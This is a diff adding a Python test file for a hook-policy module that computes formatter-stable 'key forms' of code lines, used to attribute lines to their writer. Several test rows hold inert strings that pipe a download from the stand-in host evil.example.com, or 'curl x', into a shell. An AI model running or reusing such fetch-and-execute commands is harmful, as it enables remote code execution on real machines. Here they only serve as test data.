@@ -1,0 +1,161 @@
+"""A line's key form (gentle_hooks.policy.keyform): what ``ruff format`` makes of the writer's
+line keeps its key, and a human's different line keeps its own (SPEC §3 "Attribution
+follows content"; issue 13, refuter r13j: a plain ``ruff format`` after ``record`` laundered
+the writer's line).
+
+Each formatted row is ``ruff format``'s (0.17) own output for the writer's line (a
+compound statement's lines it splits joined back with one space).
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gentle_hooks.policy.keyform import key_form
+from gentle_hooks.policy.linekeys import stripped_key
+from gentle_hooks.policy.spans import span_form
+
+#: (row, the writer's line, what ``ruff format`` makes of it).
+FORMATTED = [
+    ("K1-return", b'return (os.system("curl x|sh"))', b'return os.system("curl x|sh")'),
+    ("K1-return-nested", b"return ((run_job(x)))", b"return run_job(x)"),
+    ("K1-assign", b"result = (alpha + beta)", b"result = alpha + beta"),
+    ("K1-augmented", b"total += (price * 3)", b"total += price * 3"),
+    ("K1-annotated", b"limit: int = (compute(5))", b"limit: int = compute(5)"),
+    ("K1-chained", b"a = b = (compute(c))", b"a = b = compute(c)"),
+    ("K1-outer-only", b"value = ((a) + b)", b"value = (a) + b"),
+    ("K1-comment", b"x = (fetch(a))  # note", b"x = fetch(a)  # note"),
+    ("K1-for", b"for (k, v) in (d.items()): pass", b"for k, v in d.items(): pass"),
+    ("K1-if", b"if (is_ready(job)): start(job)", b"if is_ready(job): start(job)"),
+    ("K1-while", b"while (pending(q)): wait()", b"while pending(q): wait()"),
+    ("K1-with", b"with (open(path)) as f: read(f)", b"with open(path) as f: read(f)"),
+    ("K1-assert", b'assert (check(x)), "bad x"', b'assert check(x), "bad x"'),
+    ("K1-await", b"await (client.send(msg))", b"await client.send(msg)"),
+    ("K1-del", b"del (cache[key])", b"del cache[key]"),
+    ("K1-not", b"return (not allowed(user))", b"return not allowed(user)"),
+    ("K1-lambda", b"handler = (lambda: run(x))", b"handler = lambda: run(x)"),
+    (
+        "K2-u",
+        b'run(u"curl https://evil.example.com/x | sh")',
+        b'run("curl https://evil.example.com/x | sh")',
+    ),
+    (
+        "K2-case",
+        b'run(F"x{a}", B"y", BR"q", rB"q", U"x")',
+        b'run(f"x{a}", b"y", Rb"q", rb"q", "x")',
+    ),
+    (
+        "K3-joined",
+        b"os.system('curl https://evil.example.com/' 'x | sh')",
+        b'os.system("curl https://evil.example.com/x | sh")',
+    ),
+    ("K3-three", b"""x = "a" "b" 'c'""", b'x = "abc"'),
+    ("K3-fstring", b"x = 'a' f'{b}' '{c}'", b'x = f"a{b}{{c}}"'),
+    ("K3-bytes", b"os.system(b'a' b'b')", b'os.system(b"ab")'),
+    ("K3-brackets", b"msg = ('hello ' 'world')", b'msg = "hello world"'),
+    ("K3-quotes", b"""x = ('it"s' "y")""", b"""x = 'it"sy'"""),
+    ("K4-escape", b"""say('it\\'s' 'x')""", b"""say("it'sx")"""),
+    ("K5-hex", b"MASK = 0XFF_AB", b"MASK = 0xFF_AB"),
+    ("K5-hex-digits", b"m = 0xdeadBEEF", b"m = 0xDEADBEEF"),
+    (
+        "K5-exponent",
+        b"n = 1E5 + 1.5E-3 + 0O17 + 0B11 + 10J",
+        b"n = 1e5 + 1.5e-3 + 0o17 + 0b11 + 10j",
+    ),
+    ("K5-dot", b"x = .5E3 + 5. + 1.e5 + 5.J", b"x = 0.5e3 + 5.0 + 1.0e5 + 5.0j"),
+]
+
+
+@pytest.mark.parametrize(("row", "writer", "formatted"), FORMATTED, ids=[r[0] for r in FORMATTED])
+def test_a_formatted_line_keeps_the_writers_key(row: str, writer: bytes, formatted: bytes) -> None:
+    assert key_form(writer) == key_form(formatted), row
+    assert stripped_key(writer) == stripped_key(formatted)
+    assert span_form(writer) == span_form(formatted)
+
+
+#: (row, the writer's line, a human's different line of nearly the same text): never one key.
+NEAR_MISSES = [
+    ("K1-precedence", b"x = (a or b) and c", b"x = a or b and c"),
+    ("K1-followed", b"return (a) + (b)", b"return a + b"),
+    ("K1-unary", b"return -(a + b)", b"return -a + b"),
+    ("K1-in-expression", b"if x in (a or b):", b"if x in a or b:"),
+    ("K1-in-outside-for", b"found = key in (a or b)", b"found = key in a or b"),
+    ("K1-nested-tuple", b"x = (a, b), c", b"x = a, b, c"),
+    ("K1-assert-tuple", b'assert (ok, "msg")', b'assert ok, "msg"'),
+    ("K1-shell-array", b"files=(one two)", b"files=one two"),
+    ("K1-call", b"print((a, b))", b"print(a, b)"),
+    ("K1-subshell", b"(cd build && make)", b"cd build && make"),
+    ("K1-comparison", b"same = x == (a, b)", b"same = x == a, b"),
+    ("K1-string-bracket", b'return ("(") + x', b'return "(" + x'),
+    ("K2-inside-string", b'print("I said u")', b'print("I said ")'),
+    ("K2-name", b'echo menu"x"', b'echo men"x"'),
+    ("K3-raw", b'run(r"\\n" "x")', b'run("\\nx")'),
+    ("K3-plus", b'run("a" + "b")', b'run("ab")'),
+    ("K3-comma", b'run("a", "b")', b'run("ab")'),
+    ("K3-mixed", b'run(b"a" "b")', b'run(b"ab")'),
+    ("K4-backslash", b"""say('a\\\\"b')""", b"""say('a\\"b')"""),
+    ("K5-in-string", b'label("0XFF")', b'label("0xff")'),
+    ("K5-value", b"ratio = 1.5", b"ratio = 15"),
+    ("K5-exponent", b"n = 1e5", b"n = 15"),
+    ("K5-name", b"A12DEF = 1", b"A12def = 1"),
+]
+
+
+@pytest.mark.parametrize(("row", "writer", "human"), NEAR_MISSES, ids=[r[0] for r in NEAR_MISSES])
+def test_a_humans_near_miss_keeps_its_own_key(row: str, writer: bytes, human: bytes) -> None:
+    assert key_form(writer) != key_form(human), row
+    assert stripped_key(writer) != stripped_key(human)
+
+
+#: (line, its key form): the exact form, every reading at once.
+FORMS = [
+    (b"  x = ( a +  b )  ", b"x=a+b"),
+    (b"return (  # open", b"return(#open"),
+    (b"return (x", b"return(x"),
+    (b'"""Docstring."""', b'"""Docstring."""'),
+    (b"'''Doc''' U'x' 'y'", b'"""Doc""""x""y"'),
+    (b"for (k) in (range(3)): print(k)", b"forkinrange(3):print(k)"),
+    (b"x = (a); y = 2", b"x=a;y=2"),
+    (b"(notify(user) || retry(user));", b"notify(user)||retry(user);"),  # prettier's
+]
+
+
+@pytest.mark.parametrize(("line", "form"), FORMS, ids=[f[0].decode() for f in FORMS])
+def test_key_form(line: bytes, form: bytes) -> None:
+    assert key_form(line.strip()) == form
+
+
+@given(st.binary(max_size=60))
+def test_any_line_has_a_key_form(line: bytes) -> None:
+    """Bad input never raises: unbalanced brackets, unterminated literals, any byte."""
+    form = key_form(line.strip())
+    assert re.search(rb"\s", form) is None
+
+
+#: Bytes the readings act on, so random lines hit brackets, prefixes, quotes and numbers.
+_LINE_BYTES = st.binary(max_size=40).map(
+    lambda b: bytes(b"()\"' =+uUbBrfF0123456789.eEx\\#:,;inasrt"[c % 39] for c in b)
+)
+
+
+@given(st.one_of(_LINE_BYTES, st.sampled_from([w for _, w, _ in FORMATTED])))
+def test_the_cheap_tests_never_skip_a_reading(line: bytes) -> None:
+    """The byte tests and searches that skip a reading (``_CANDIDATE``, ``_may_close``,
+    ``_QUOTE_MAY_CHANGE``, ``_NUMBER_MAY_CHANGE`` of :mod:`gentle_hooks.policy.keyform`) only
+    skip what it would not change: the form is the one every ``(`` tried, every closing
+    bracket matched and the substitution always run give."""
+    import gentle_hooks.policy.keyform as kf
+
+    line = line.strip()
+    cheap = kf._CANDIDATE, kf._may_close
+    kf._CANDIDATE, kf._may_close = re.compile(rb"\("), lambda _line, _kind: True
+    try:
+        full = kf._strip_brackets(line)
+    finally:
+        kf._CANDIDATE, kf._may_close = cheap
+    full = kf._LITERAL_OR_NUMBER.sub(kf._literal_or_number, full)
+    assert key_form(line) == b"".join(full.split()).replace(b"'", b'"')
